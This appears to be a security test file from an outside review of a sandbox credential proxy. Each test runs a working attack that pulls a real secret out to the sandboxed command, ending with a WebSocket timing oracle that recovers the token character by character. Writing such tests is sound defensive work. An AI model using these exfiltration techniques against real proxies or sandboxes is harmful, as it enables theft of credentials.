# SPDX-License-Identifier: MIT
"""An outside review's attacks on the credential promises: the command never
obtains a real secret, and a secret goes only toward the hosts its
[credential] section binds it to.

The attacker is the sandboxed command, which knows its placeholder.  The
upstream is a server of this file's own (ECHO), started inside the network
tests' namespace (test_network.World) on good.test's address, port 9443
(HTTPS, good.test's certificate from the test CA) and 9080 (plain): it hands
back what it received in the ways public services do (httpbin's
/response-headers sets response headers from the query, a login redirect
quotes the request in ?next=, a WebSocket echo, a feed that lasts).  Each
test has a positive control: the command ran, and the request reached the
upstream with the secret in it (or, for the secrets that never leave the
machine, the protection next to the hole held).  Each fails on the binary
it was written against because the hole is real.
"""
import os
import subprocess

import pytest

from test_network import NetBox

SECRET = "ghp_realSecretValue0123456789abcdef"
DIAG = [("root", "namespace"), ("nobody", "broker")]
CURL = "curl -sS -m 10 "

# Runs in the test namespace: python3 ECHO CERT KEY LOG
ECHO = r'''
import base64, hashlib, http.server, socketserver, ssl, struct, sys, threading, time, urllib.parse

LOG = sys.argv[3]
STORE = {}

class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def do_GET(self):
        with open(LOG, "a") as f:
            f.write("%s %s\n%s\n" % (self.command, self.path, self.headers))
        path, _, query = self.path.partition("?")
        body = b"ok\n"
        if path.startswith("/store/"):
            STORE[path[7:]] = query
        elif path.startswith("/stored/"):
            body = ("value=%s\n" % STORE.get(path[8:], "")).encode()
        elif path == "/login-redirect":
            # a page behind a login: sent to the login page with where it
            # was asked for in ?next= (Django's redirect_to_login)
            self.send_response(302)
            self.send_header("Location", "/login?next=" + urllib.parse.quote(self.path, safe=""))
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        elif path == "/ws-echo":
            # a WebSocket echo service: every text frame back as it came
            key = self.headers["Sec-WebSocket-Key"]
            accept = base64.b64encode(hashlib.sha1(
                (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", accept)
            self.end_headers()
            self.wfile.flush()
            while True:
                hdr = self.rfile.read(2)
                if len(hdr) < 2 or hdr[0] & 0x0F == 8:
                    break
                n = hdr[1] & 0x7F
                if n == 126:
                    n = struct.unpack("!H", self.rfile.read(2))[0]
                mask = self.rfile.read(4)
                data = bytes(b ^ mask[i % 4] for i, b in enumerate(self.rfile.read(n)))
                self.wfile.write(bytes([0x81, len(data)]) + data)
                self.wfile.flush()
            self.close_connection = True
            return
        elif path.startswith("/ws-wait/"):
            # a WebSocket that lasts: a frame at once, then what
            # /store/KEY stores, when it does
            key = self.headers["Sec-WebSocket-Key"]
            accept = base64.b64encode(hashlib.sha1(
                (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", accept)
            self.end_headers()
            self.wfile.write(b"\x81\x07waiting")
            self.wfile.flush()
            for _ in range(300):
                if path[9:] in STORE:
                    break
                time.sleep(0.05)
            data = ("value=%s\n" % STORE.get(path[9:], "")).encode()
            self.wfile.write(bytes([0x81, len(data)]) + data + b"\x88\x00")
            self.wfile.flush()
            self.close_connection = True
            return
        elif path.startswith("/wait/"):
            # a response that lasts (a log tail, a feed): its first chunk at
            # once, then what /store/KEY stores, when it does
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            self.wfile.write(b"8\r\nwaiting\n\r\n")
            self.wfile.flush()
            for _ in range(300):
                if path[6:] in STORE:
                    break
                time.sleep(0.05)
            data = ("value=%s\n" % STORE.get(path[6:], "")).encode()
            self.wfile.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data))
            self.wfile.flush()
            return
        self.send_response(200)
        if path == "/response-headers":
            # httpbin's: every query parameter a response header
            for k, v in urllib.parse.parse_qsl(query):
                self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True

plain = S(("93.184.215.14", 9080), H)
tls = S(("93.184.215.14", 9443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
for s in (plain, tls):
    threading.Thread(target=s.serve_forever, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
'''


class Echo:
    def __init__(self, world):
        self.dir = os.path.join(world.dir, "echo")
        os.makedirs(self.dir, exist_ok=True)
        src = os.path.join(self.dir, "echo.py")
        with open(src, "w") as f:
            f.write(ECHO)
        self.log = os.path.join(self.dir, "seen.log")
        self.proc = subprocess.Popen(
            ["ip", "netns", "exec", world.name, "/usr/bin/python3", src, world.cert,
             os.path.join(world.dir, "good.key"), self.log],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        line = self.proc.stdout.readline()
        assert line.strip() == "ready", line

    def seen(self):
        try:
            with open(self.log) as f:
                return f.read()
        except FileNotFoundError:
            return ""

    def close(self):
        self.proc.stdin.close()
        self.proc.kill()
        self.proc.wait()


@pytest.fixture(scope="module")
def echo(world):
    e = Echo(world)
    yield e
    e.close()


@pytest.fixture(params=DIAG, ids=["root-ns", "user-broker"])
def two(request, world, echo):
    b = NetBox(world, *request.param)
    b.echo = echo
    yield b
    b.cleanup()


def policy(box, hosts="good.test:9443", extra=""):
    net = "allow = good.test:9443 good.test:9080\nupstream_ca = %s\n" % box.path("bin", "ca.pem")
    return box.net_policy(net, "[credential github]\nenv = GITHUB_TOKEN\n"
                          "source = env:RF_SECRET\nhosts = %s\n%s" % (hosts, extra))


def run(box, script, pol):
    return box.sh(script, pol, env={"RF_SECRET": SECRET})


def audit(box):
    try:
        with open(box.audit) as f:
            return f.read()
    except FileNotFoundError:
        return ""


def test_a_reflected_content_encoding_is_quoted_in_the_502(two):
    """A bound host answers with Content-Encoding (asked for identity): the
    proxy refuses the answer with a 502 whose body, and whose net.error
    line, quote the header's value, up to 40 bytes, before the head is
    scrubbed.  An echo service that sets response headers from the query
    (httpbin's /response-headers) puts the secret there: the command reads
    it in the 502's body, and it is written to the audit log."""
    p = policy(two)
    before = len(two.echo.seen())
    r = run(two, CURL + '-i "https://good.test:9443/response-headers?X-Echo=$GITHUB_TOKEN"; ' +
            CURL + '-i "https://good.test:9443/response-headers?Content-Encoding=$GITHUB_TOKEN"',
            p)
    seen = two.echo.seen()[before:]
    # positive control: both requests reached the upstream with the secret
    # in their target, and the first one's echo came back as the placeholder
    assert seen.count("/response-headers?X-Echo=%s\n" % SECRET) == 1, seen
    assert seen.count("/response-headers?Content-Encoding=%s\n" % SECRET) == 1, seen
    assert "X-Echo: ringfence_github_" in r.stdout, r.stdout + r.stderr
    assert "502" in r.stdout and "Content-Encoding" in r.stdout, r.stdout
    # the hole: the secret in the 502 the proxy wrote, and in its log
    assert SECRET not in r.stdout, r.stdout
    assert SECRET not in audit(two)


def test_a_denied_wgetrc_is_handed_to_the_command(two):
    """With interception, the command's WGETRC names a copy of the caller's
    own ~/.wgetrc (wget's http_password lives there) followed by the CA
    line.  The copy is made whatever the policy says of that file: a policy
    that denies ~/.wgetrc, as it denies ~/.netrc, still hands its password
    to the command."""
    uid = 65534 if two.user == "nobody" else 0
    home = two.path("home")
    os.makedirs(home)
    os.chown(home, uid, uid)
    for name, text in ((".wgetrc", "http_user = me\nhttp_password = hunter2-wget-secret\n"),
                       ("notes", "readable\n")):
        two.write("home/" + name, text, mode=0o600, owner=uid)
    p = two.net_policy("allow = good.test:9443\nupstream_ca = %s\n" % two.path("bin", "ca.pem"),
                       "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
                       "hosts = good.test:9443\n"
                       "[filesystem]\nread = %s\ndeny = %s/.wgetrc\n" % (home, home))
    r = two.sh('cat ~/notes; cat ~/.wgetrc || echo "denied"; cat "$WGETRC"', p,
               env={"RF_SECRET": SECRET, "HOME": home})
    # positive control: the home is readable, the deny holds for the file
    # itself, and the command got a wgetrc of ringfence's
    assert r.stdout.startswith("readable\n"), r.stdout + r.stderr
    assert "denied" in r.stdout and "ca_certificate = " in r.stdout, r.stdout + r.stderr
    # the hole: the denied file's password, through the copy
    assert "hunter2-wget-secret" not in r.stdout, r.stdout


def test_the_secret_encoded_in_another_variable_reaches_the_command(two):
    """Any other variable holding the same secret is removed, so that
    env_keep cannot pass a copy in: an exact copy is (GH_COPY), but the
    same secret percent-encoded in a URL or inside a Basic value's base64
    (the forms the response scan itself decodes) passes untouched, and the
    command decodes it."""
    import base64
    import urllib.parse
    secret = "ghp_real/Secret+Value@0123456789abcdef"
    p = two.net_policy("allow = good.test:9443\nupstream_ca = %s\n" % two.path("bin", "ca.pem"),
                       "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
                       "hosts = good.test:9443\n"
                       "[process]\nenv_keep = PATH HOME LANG GH_COPY GH_URL GH_BASIC\n")
    env = {"RF_SECRET": secret, "GH_COPY": secret,
           "GH_URL": "https://x:%s@good.test:9443/" % urllib.parse.quote(secret, safe=""),
           "GH_BASIC": "Basic " + base64.b64encode(("x:" + secret).encode()).decode()}
    two.write("work/client.py", r'''
import base64, os, urllib.parse
print("copy", os.environ.get("GH_COPY"))
print("token", os.environ.get("GITHUB_TOKEN", "")[:17])
u = os.environ.get("GH_URL", "")
print("url", urllib.parse.unquote(u.split("x:", 1)[-1].split("@")[0]) if u else None)
b = os.environ.get("GH_BASIC", "")
print("basic", base64.b64decode(b[6:]).decode()[2:] if b else None)
''')
    r = two.run(["/usr/bin/python3", "client.py"], policy=p, env=env)
    # positive control: the command ran with its placeholder, and the exact
    # copy was removed
    assert "token ringfence_github_" in r.stdout, r.stdout + r.stderr
    assert "copy None" in r.stdout, r.stdout
    # the hole: the secret, one decoding away
    assert secret not in r.stdout, r.stdout


# A cmd: source that prints a new secret each run (cmd-secret-run-N-...).
CMD_SCRIPT = r'''
dir=$(dirname "$0")
n=$(cat "$dir/count" 2>/dev/null || echo 0); n=$((n + 1)); echo $n > "$dir/count"
printf 'cmd-secret-run-%s-0123456789\n' $n
'''

TLS_PRELUDE = r'''
import os, socket, ssl, sys, time
P = os.environ["HTTPS_PROXY"].split("//")[1].rsplit(":", 1)
T = os.environ["TOK"]

def tls():
    c = socket.create_connection((P[0], int(P[1])))
    c.sendall(b"CONNECT good.test:9443 HTTP/1.1\r\nHost: good.test:9443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += c.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    w = ssl.create_default_context().wrap_socket(c, server_hostname="good.test")
    w.settimeout(20)
    return w

def get(w, target):
    w.sendall(("GET %s HTTP/1.1\r\nHost: good.test:9443\r\n\r\n" % target).encode())

def until_end(w):
    """A chunked body's rest, to its last chunk (the connection stays)."""
    out = b""
    while not out.endswith(b"0\r\n\r\n"):
        try:
            c = w.recv(65536)
        except OSError as e:
            return out + b"<" + type(e).__name__.encode() + b">"
        if not c:
            return out
        out += c
    return out

def read_all(w):
    out = b""
    while True:
        try:
            c = w.recv(65536)
        except OSError as e:
            return out + b"<" + type(e).__name__.encode() + b">"
        if not c:
            return out
        out += c
'''


def cmd_policy(box):
    d = box.path("cmd")
    os.makedirs(d, exist_ok=True)
    script = box.write("cmd/token.sh", CMD_SCRIPT)
    if box.user == "nobody":
        os.chown(d, 65534, 65534)
    return box.net_policy(
        "allow = good.test:9443\nupstream_ca = %s\n" % box.path("bin", "ca.pem"),
        "[credential tok]\nenv = TOK\nsource = cmd:/bin/sh %s\nhosts = good.test:9443\n"
        "ttl = 4s\ntimeout = 1s\n" % script)


def test_a_response_begun_before_a_refresh_carries_the_new_secret(two):
    """The response scan of a body (or an upgraded stream) is made when it
    begins, with the secrets of that moment.  A response that lasts (a feed,
    a log tail, a WebSocket) across a refresh of a cmd: secret is scanned
    for the old secret only: the new one, stored at the bound host by a
    request made after the refresh, comes back through it whole (a chunked
    body and a WebSocket, both begun before).  Control: a response begun
    after the refresh is cut for the same value."""
    p = cmd_policy(two)
    two.write("work/client.py", TLS_PRELUDE + r'''
a = tls()
get(a, "/wait/k-%s" % sys.argv[1])
head = b""
while b"waiting" not in head:
    head += a.recv(4096)
w = tls()
w.sendall(("GET /ws-wait/k-%s HTTP/1.1\r\nHost: good.test:9443\r\nUpgrade: websocket\r\n"
           "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           "Sec-WebSocket-Version: 13\r\n\r\n" % sys.argv[1]).encode())
head = b""
while b"waiting" not in head:
    head += w.recv(4096)
print("ws", head.split(b"\r\n")[0].decode())
time.sleep(2.5)  # the secret is fetched again meanwhile (at 2 s, once)
b = tls()
get(b, "/store/k-%s?%s" % (sys.argv[1], T))
print("store", b.recv(4096).split(b"\r\n")[0].decode())
print("long", until_end(a).decode("latin-1").replace("\r\n", " "))
print("wslong", read_all(w).decode("latin-1").replace("\r\n", " "))
c = tls()
get(c, "/stored/k-%s" % sys.argv[1])
print("fresh", read_all(c).decode("latin-1").replace("\r\n", " "))
''')
    key = os.path.basename(two.root)
    before = len(two.echo.seen())
    r = two.run(["/usr/bin/python3", "client.py", key], policy=p, timeout=60)
    seen = two.echo.seen()[before:]
    # positive control: the store carried a secret fetched after the first
    stored = [l for l in seen.splitlines() if l.startswith("GET /store/k-%s?" % key)]
    assert len(stored) == 1 and "cmd-secret-run-" in stored[0], seen + r.stdout + r.stderr
    assert "cmd-secret-run-1-" not in stored[0], stored
    assert "store HTTP/1.1 200 OK" in r.stdout, r.stdout + r.stderr
    assert "ws HTTP/1.1 101" in r.stdout, r.stdout
    # a response begun after the refresh is cut before the value
    assert "fresh" in r.stdout and "value=cmd" not in r.stdout.split("fresh", 1)[1], r.stdout
    # the hole: the long response, begun before the refresh, hands it over
    assert "cmd-secret-run" not in r.stdout, r.stdout


# The command's side of the oracle: WebSocket echoes through the forward
# proxy to good.test:9080 (allowed, bound to no credential).  For each next
# character, one guess per connection, all at once; a guess whose echo is
# held back whole is a prefix of the secret.
ORACLE = r'''
import base64, os, socket, string, sys, time
P = os.environ["HTTP_PROXY"].split("//")[1].rsplit(":", 1)
ALPHABET = string.ascii_letters + string.digits + "_-"

def ws():
    s = socket.create_connection((P[0], int(P[1])))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET http://good.test:9080/ws-echo HTTP/1.1\r\nHost: good.test:9080\r\n"
               "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
               "Sec-WebSocket-Version: 13\r\n\r\n" % key).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    assert head.startswith(b"HTTP/1.1 101"), head
    s.setblocking(False)
    return s

def frame(data):
    mask = os.urandom(4)
    return bytes([0x81, 0x80 | len(data)]) + mask + bytes(
        b ^ mask[i % 4] for i, b in enumerate(data))

def drain(s):
    out = b""
    while True:
        try:
            c = s.recv(65536)
        except BlockingIOError:
            return out
        except OSError:
            return None
        if not c:
            return None
        out += c

conns = [ws() for _ in ALPHABET]
# control: an echo that holds nothing comes back whole, at once
conns[0].sendall(frame(b"#hello"))
time.sleep(0.3)
print("control", drain(conns[0]))

def settle(conns, sent, got, enough):
    """Reads until every connection has been sent back ENOUGH(i) bytes (in
    all, since it began), or 5 s; SENT[i] is what it was sent back in all,
    GOT[i] what came (None once it was cut)."""
    end = time.monotonic() + 5
    while time.monotonic() < end:
        short = 0
        for i, s in enumerate(conns):
            if got[i] is not None and got[i] < enough(i):
                d = drain(s)
                got[i] = None if d is None else got[i] + len(d)
            short += got[i] is not None and got[i] < enough(i)
        if not short:
            return
        time.sleep(0.005)

known = sys.argv[1]  # the token format's public prefix (ghp_)
sent = [0] * len(conns)
got = [0] * len(conns)
for _ in range(60):
    guess = [(known + ch).encode() for ch in ALPHABET]
    base = list(got)
    for i, (s, g) in enumerate(zip(conns, guess)):
        s.sendall(frame(g))
        sent[i] += 2 + len(g)
    # any byte of the payload: not held whole (the frame's two header
    # bytes may come either way); the one holding its payload whole stays
    # short: waited for 0.1 s once every other has come (3 s at most)
    t0 = time.monotonic()
    while time.monotonic() - t0 < 3:
        short = [i for i in range(len(conns)) if got[i] is not None and got[i] < base[i] + 3]
        if len(short) <= 1 and time.monotonic() - t0 > 0.1:
            break
        for i in short:
            d = drain(conns[i])
            got[i] = None if d is None else got[i] + len(d)
        time.sleep(0.005)
    held = [i for i in range(len(conns)) if got[i] is None or got[i] <= base[i] + 2]
    if len(held) != 1:
        break
    known += ALPHABET[held[0]]
    for i, s in enumerate(conns):
        try:
            s.sendall(frame(b"#"))  # breaks every partial match: all flows
            sent[i] += 3
        except OSError:
            pass
    settle(conns, sent, got, lambda i: sent[i])
    for i in range(len(conns)):
        if got[i] is None:  # the one whose guess completed the secret was cut
            conns[i], sent[i], got[i] = ws(), 0, 0
print("recovered", known, flush=True)
'''


def test_a_held_back_partial_match_tells_the_secret_one_character_at_a_time(two):
    """The scan holds back the bytes of a partial match until the next byte
    says whether it goes on, with no deadline: a response's bytes that are
    a prefix of the secret wait, any other bytes go at once.  Through any
    service that echoes what the command sends, at a time of its choosing
    (a WebSocket echo, here on a host no credential is bound to), the
    command guesses the next character on many connections at once and
    sees which echo waits: the whole secret, a character per round trip.
    Control: an echo that matches nothing comes back whole at once, and
    the secret itself is never sent anywhere (no credential host is
    asked)."""
    p = policy(two)
    two.write("work/oracle.py", ORACLE)
    r = two.run(["/usr/bin/python3", "oracle.py", "ghp_"], policy=p, env={"RF_SECRET": SECRET},
                timeout=120)
    assert "control b'\\x81\\x06#hello'" in r.stdout, r.stdout + r.stderr
    assert "recovered ghp_" in r.stdout, r.stdout + r.stderr
    assert not two.events("cred.inject"), two.events("cred.inject")
    # the hole: the secret, recovered whole without it ever being sent
    assert SECRET not in r.stdout, r.stdout


def test_a_query_secret_echoed_url_encoded_comes_back(two):
    """inject = query:key writes the secret percent-encoded; a login
    redirect that quotes the request's path and query in ?next= (Django's
    redirect_to_login, any 'return to' parameter) encodes those escapes
    once more (%2F becomes %252F).  The scan decodes one level: the
    secret, a token with '/', '+' or '=' as base64 tokens have, comes back
    in the Location header, two unquotes away.  Control: the same
    parameter echoed as it was received is replaced by the placeholder."""
    import urllib.parse
    secret = "ghp_real/Secret+Value=0123456789abcdef"
    p = two.net_policy("allow = good.test:9443\nupstream_ca = %s\n" % two.path("bin", "ca.pem"),
                       "[credential github]\nenv = GITHUB_TOKEN\nsource = env:RF_SECRET\n"
                       "hosts = good.test:9443\ninject = query:key\n")
    before = len(two.echo.seen())
    r = two.sh(CURL + '-i "https://good.test:9443/response-headers?key=$GITHUB_TOKEN"; ' +
               CURL + '-i "https://good.test:9443/login-redirect?key=$GITHUB_TOKEN"', p,
               env={"RF_SECRET": secret})
    seen = two.echo.seen()[before:]
    # positive control: both carried the secret, and the plain echo of the
    # parameter came back as the placeholder
    assert seen.count("?key=%s\n" % urllib.parse.quote(secret, safe="")) == 2, seen
    assert "key: ringfence_github_" in r.stdout, r.stdout + r.stderr
    loc = [l for l in r.stdout.splitlines() if l.lower().startswith("location:")]
    assert loc and "/login?next=" in loc[0], r.stdout
    # the hole: the secret, two unquotes away
    assert secret not in urllib.parse.unquote(urllib.parse.unquote(loc[0])), loc
